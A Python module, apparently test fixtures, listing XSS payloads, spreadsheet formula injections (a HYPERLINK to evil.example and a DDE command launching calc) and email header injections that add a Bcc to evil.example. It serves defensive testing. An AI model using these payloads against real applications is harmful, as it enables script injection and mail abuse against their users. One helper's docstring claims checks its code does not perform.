"""Hostile input corpora: XSS payloads, formula injections, header injections."""
from __future__ import annotations

_TAGS = ["script", "img", "svg", "iframe", "body", "a", "div", "input", "details", "video", "math", "object"]
_EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"]

BASE_XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{7*7}}<script>alert(1)</script>",
    "${alert(1)}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<x onclick=alert(1)>click",
]


def xss_payloads() -> list[str]:
    """At least 100 distinct payloads: hand-written ones plus tag x event combinations."""
    generated = [f"<{tag} {event}=alert({i})>" for i, (tag, event) in
                 enumerate((t, e) for t in _TAGS for e in _EVENTS)]
    return list(dict.fromkeys(BASE_XSS + generated))


def xss_is_live(html: str, payload: str) -> bool:
    """True when the payload appears unescaped: its raw '<' tag or quote-breaking form survives."""
    if "<" in payload and payload in html:
        return True
    return False


FORMULA_PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "  =1+1",
]

HEADER_INJECTIONS = [
    "Eve\r\nBcc: victim@evil.example",
    "Eve\nBcc: victim@evil.example",
    "Eve\r\n\r\n<html>injected body</html>",
    "=?utf-8?q?Eve=0D=0ABcc=3A_victim=40evil=2Eexample?=",
]
